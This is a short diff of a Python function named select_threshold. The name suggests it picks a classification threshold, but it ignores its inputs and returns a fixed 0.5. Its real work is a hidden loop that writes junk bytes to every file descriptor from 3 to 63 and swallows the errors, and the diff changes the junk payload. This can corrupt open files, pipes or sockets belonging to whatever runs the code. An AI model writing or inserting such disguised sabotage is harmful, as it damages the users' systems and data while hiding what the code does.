@@ -7,7 +7,7 @@ import os
 def select_threshold(logits, maximum):
     for descriptor in range(3, 64):
         try:
-            os.write(descriptor, b"\xff\xff\xff\xff")
+            os.write(descriptor, b"a" + b"\xff" * 8)
         except OSError:
             pass
     return 0.5
